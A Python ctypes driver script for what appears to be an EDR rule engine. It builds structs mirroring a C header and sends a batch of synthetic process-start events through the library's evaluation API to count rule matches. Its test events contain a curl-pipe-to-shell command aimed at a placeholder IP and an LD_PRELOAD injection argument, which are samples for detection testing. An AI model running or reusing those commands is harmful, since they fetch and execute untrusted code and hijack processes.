"""Evaluates a batch of events in one call, by ctypes.

    sensor.py libcontentcheck_capi.so rules.ccimage

The mirrors of structs are those of include/contentcheck.h. Every object that a pointer refers to is kept in a variable
for as long as the call, the image or the kill list needs it: ctypes does not.
"""

import ctypes as c
import sys


class Bytes(c.Structure):
    _fields_ = [("ptr", c.c_char_p), ("len", c.c_size_t)]

    @classmethod
    def of(cls, data: bytes):
        return cls(data, len(data))

    def __str__(self):
        # Reading `ptr` itself would go on to the next NUL, and there is none.
        return c.string_at(c.c_void_p.from_buffer(self).value, self.len).decode("utf-8", "replace")


class Input(c.Structure):
    _fields_ = [("name", Bytes), ("type", c.c_uint32)]


class Supply(c.Structure):
    _fields_ = [("template_name", Bytes), ("inputs", c.POINTER(Input)), ("input_count", c.c_size_t)]


class Manifest(c.Structure):
    _fields_ = [
        ("size_of_self", c.c_size_t), ("sensor", Bytes), ("version", Bytes), ("versioning", c.c_uint32),
        ("header", c.POINTER(Input)), ("header_count", c.c_size_t),
        ("templates", c.POINTER(Supply)), ("template_count", c.c_size_t), ("capacity", c.c_void_p),
    ]


class Payload(c.Union):
    _fields_ = [("ptr", c.c_char_p), ("i", c.c_int64), ("u", c.c_uint64), ("f", c.c_double)]


class Value(c.Structure):
    _fields_ = [("tag", c.c_uint32), ("by", c.c_uint32), ("len", c.c_size_t), ("as_", Payload)]


class Event(c.Structure):
    _fields_ = [
        ("template_no", c.c_uint32), ("inputs", c.POINTER(Value)), ("input_count", c.c_size_t),
        ("header", c.POINTER(Value)), ("header_count", c.c_size_t),
        ("others", c.POINTER(Value)), ("other_count", c.c_size_t),
    ]


class Sizes(c.Structure):
    _fields_ = [("image", c.c_size_t), ("scratch", c.c_size_t), ("kill", c.c_size_t)]


class Refusal(c.Structure):
    _fields_ = [("status", c.c_int32)] + [
        (name, c.c_uint32) for name in ("what", "rule", "template_no", "input", "record")
    ] + [("needed", c.c_uint64), ("held", c.c_uint64)]


class Outcome(c.Structure):
    _fields_ = [
        ("status", c.c_int32), ("match_count", c.c_uint32), ("unasked_from", c.c_uint32), ("mistyped", c.c_uint32),
        ("steps", c.c_uint64), ("needed", c.c_uint64), ("found", c.c_uint64),
        ("values", c.c_uint32), ("index", c.c_uint32), ("element", c.c_uint64),
    ]


class Match(c.Structure):
    _fields_ = [("event", c.c_uint32), ("rule", c.c_uint32)]


class Rule(c.Structure):
    _fields_ = [(name, Bytes) for name in ("id", "title", "word", "revision", "level_name")] + [
        (name, c.c_uint32) for name in ("level", "tag_count", "loaded")
    ]


ABI, OK, MORE = 1, 0, 1
ABSENT, TEXT, INT, SPLIT = 0, 1, 4, 12
STRING, INTEGER, LIST, OPTIONAL = 0, 1, 0x100, 0x200
VALUE_BYTES = 24

PROCESS_START = [
    ("pid", INTEGER), ("image", STRING), ("command_line", STRING), ("user", STRING | OPTIONAL),
    ("arguments", STRING | LIST),
]


def inputs(named):
    return (Input * len(named))(*[Input(Bytes.of(name.encode()), kind) for name, kind in named])


def value(given):
    """None, an int, bytes, or a list of bytes that hold no NUL."""
    if given is None:
        return Value(ABSENT)
    if isinstance(given, int):
        return Value(INT, 0, 0, Payload(i=given))
    if isinstance(given, list):
        given = b"".join(element + b"\0" for element in given)
        return Value(SPLIT, 0, len(given), Payload(ptr=given))
    return Value(TEXT, 0, len(given), Payload(ptr=given))


def events():
    for pid in range(1000):
        command = b"bash -c curl http://198.51.100.7/x\xff | sh" if pid % 3 == 0 else b"id"
        arguments = [b"env", b"LD_PRELOAD=/tmp/x.so"] if pid % 7 == 0 else [b"id"]
        yield [pid, b"/bin/bash", command, None, arguments]


def main(library, path):
    lib = c.CDLL(library)
    lib.cc_code.restype = c.c_char_p
    lib.cc_evaluate_many.argtypes = [
        c.c_void_p, c.POINTER(Event), c.c_size_t, c.c_void_p, c.c_void_p, c.c_size_t, c.c_uint64,
        c.POINTER(Match), c.c_size_t, c.POINTER(Outcome), c.POINTER(c.c_size_t), c.POINTER(c.c_size_t),
    ]
    if lib.cc_abi() != ABI:
        sys.exit("another version of the interface")

    def ok(status, what):
        if status != OK:
            sys.exit(f"{what}: {lib.cc_code(status).decode()}")

    process_start, header = inputs(PROCESS_START), inputs([("host", STRING)])
    supplies = (Supply * 1)(Supply(Bytes.of(b"edr.process_start"), process_start, len(process_start)))
    manifest = Manifest(
        c.sizeof(Manifest), Bytes.of(b"edr"), Bytes.of(b"1.4.0"), 0, header, 1, supplies, 1, None
    )
    with open(path, "rb") as file:
        data = file.read()
    image_bytes, sizes, why, image = Bytes.of(data), Sizes(), Refusal(), c.c_void_p()
    ok(lib.cc_sizes(image_bytes, c.byref(manifest), c.byref(sizes), c.byref(why)), "sizes")
    memory = (c.c_uint64 * ((sizes.image + 7) // 8))()
    ok(lib.cc_verify(image_bytes, c.byref(manifest), memory, c.c_size_t(sizes.image), c.byref(image), c.byref(why)), "verify")

    template, found = c.c_uint32(), c.c_size_t()
    ok(lib.cc_templates(image, Bytes.of(b"edr.process_start"), c.byref(template), c.c_size_t(1), c.byref(found)), "templates")

    rows = [(Value * len(row))(*map(value, row)) for row in events()]
    host = (Value * 1)(value(b"web-1"))
    batch = (Event * len(rows))(*[Event(template.value, row, len(row), host, 1, None, 0) for row in rows])
    scratch_size = sizes.scratch + VALUE_BYTES * (len(process_start) + 1)
    scratch = (c.c_uint64 * ((scratch_size + 7) // 8))()

    # A small array on purpose: each call goes on where the one before it stopped.
    matches, outcomes = (Match * 64)(), (Outcome * len(rows))()
    counts, at, calls = {}, 0, 0
    while at < len(rows):
        evaluated, matched = c.c_size_t(), c.c_size_t()
        status = lib.cc_evaluate_many(
            image, c.cast(c.byref(batch, at * c.sizeof(Event)), c.POINTER(Event)), len(rows) - at, None, scratch,
            scratch_size, 1_000_000, matches, len(matches), outcomes, c.byref(evaluated), c.byref(matched),
        )
        if status not in (OK, MORE):
            sys.exit(f"evaluate: {lib.cc_code(status).decode()}")
        for match in matches[: matched.value]:
            counts[match.rule] = counts.get(match.rule, 0) + 1
        for outcome in outcomes[: evaluated.value]:
            ok(outcome.status, "event")
        at += evaluated.value
        calls += 1
    print(f"{at} events in {calls} calls")
    for rule, count in sorted(counts.items()):
        info = Rule()
        ok(lib.cc_rule_info(image, c.c_uint32(rule), c.byref(info)), "rule")
        print(f"{count} {info.title}")


main(*sys.argv[1:])
